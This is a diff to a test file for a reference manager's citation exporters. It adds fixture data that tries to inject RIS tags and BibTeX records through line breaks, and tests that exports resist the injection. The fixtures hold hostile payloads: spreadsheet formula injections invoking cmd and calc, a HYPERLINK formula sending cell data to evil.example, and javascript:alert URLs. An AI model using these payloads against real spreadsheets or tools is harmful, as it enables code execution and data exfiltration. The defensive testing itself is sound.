@@ -6,7 +6,8 @@ import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import type { CslItem, Passage } from '../../core/types.js';
 import { assignCitationKeys } from '../../core/csl.js';
-import { exporterFor } from '../../server/export/registry.js';
+import { exporterFor, exporters } from '../../server/export/registry.js';
+import { safeItem } from '../../server/export/safe-item.js';
 import type { ExportItem } from '../../server/export/types.js';
 import { tempDir } from '../helpers/tmp.js';
 import { cslSchemaErrors } from '../helpers/csl-schema.js';
@@ -30,6 +31,8 @@ const HOSTILE: CslItem[] = [
   { id: 'rtl', type: 'report', title: 'Shalom \u202Eevil\u202C שלום 🕊️ peace 👩🏽‍⚕️ report', author: [{ family: 'כהן', given: 'דוד' }, { family: 'Emoji 😀', given: 'Em' }], issued: { 'date-parts': [[2023, 1]] } },
   { id: 'formula', type: 'report', title: "=cmd|' /C calc'!A0", author: [{ literal: "+SUM(1+1)*cmd|' /C calc'!A0" }, { family: '-2+3', given: '@SUM(A1)' }], issued: { 'date-parts': [[2015]] }, publisher: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
   { id: 'chapter', type: 'chapter', title: 'A chapter with page ranges', 'container-title': 'Book of {Chapters}', author: [{ family: 'Page', given: 'Paige' }], editor: [{ family: 'Editor', given: 'Ed' }], publisher: 'Press', page: 'xii–xiv, 3-17', issued: { 'date-parts': [[2014]] } },
+  // line breaks in every kind of field, each followed by what would be a RIS tag or a BibTeX entry (review16-b finding 1)
+  { id: 'newlines', type: 'report', title: 'A title\nUR  - javascript:alert(1)\nER  - \n\nTY  - RPRT\nTI  - Injected', author: [{ family: 'Smith\nUR  - javascript:alert(2)', given: 'J\r\n@misc{x' }], issued: { 'date-parts': [[2020]] }, publisher: 'Pub\r\nUR  - javascript:alert(3)', 'publisher-place': 'Here\u2028TY  - ELEC\u2029ER  - ', 'container-title': 'Series\u0085AU  - Injected,', URL: 'javascript:alert(0)' },
   { id: 'article', type: 'article-journal', title: 'An article & its #hash', 'container-title': 'Journal of 100% Studies_x', volume: '3', issue: '2', page: '101-120', author: [{ family: 'Author', given: 'Art' }], issued: { 'date-parts': [[2011, 5, 1]] } },
 ];
 const keys = assignCitationKeys(HOSTILE);
@@ -125,6 +128,28 @@ describe('exports of hostile metadata, read by real tools', function () {
       const { out } = run(cmd, [file], dir);
       assert.equal((out.match(/<mods ID=/g) ?? []).length, docs.length, cmd);
       for (const d of docs) assert.ok(out.includes(`<mods ID="${keys.get(d.id)}">`), `${cmd}: ${keys.get(d.id)}`);
+    }
+  });
+
+  // what the 'newlines' record's fields would write as lines of their own
+  const INJECTED = /^(?:UR {2}- javascript:alert\([123]\)|TI {2}- Injected|TY {2}- ELEC|ER {2}- \r?\n\r?\nTY|AU {2}- Injected|@misc)/mu;
+  it('a line break in any field writes no tag or record of its own: RIS and BibTeX one record per item, every line a tag (review16-b finding 1)', () => {
+    const risText = render('ris');
+    assert.equal((risText.match(/^TY {2}- /gm) ?? []).length, docs.length);
+    assert.equal((risText.match(/^ER {2}- /gm) ?? []).length, docs.length);
+    for (const line of risText.split('\r\n')) assert.match(line, /^(?:[A-Z][A-Z0-9] {2}- .*)?$/, JSON.stringify(line));
+    assert.doesNotMatch(risText, INJECTED, String(INJECTED.exec(risText)));
+    assert.equal((render('bibtex').match(/^@/gm) ?? []).length, docs.length);
+    assert.doesNotMatch(render('bibtex'), /\n@misc\{x/);
+  });
+
+  it('an export as the server gives it (safeItem) has no line break inside a field in any format', () => {
+    const nl = items.find((i) => i.csl.id === 'newlines')!;
+    for (const e of exporters) {
+      const out = e.render([safeItem(nl)]);
+      assert.doesNotMatch(out, /javascript:alert\(0\)/, e.id);
+      assert.doesNotMatch(out, INJECTED, e.id);
+      assert.doesNotMatch(out, /[\u0085\u2028\u2029]/u, e.id);
     }
   });
 
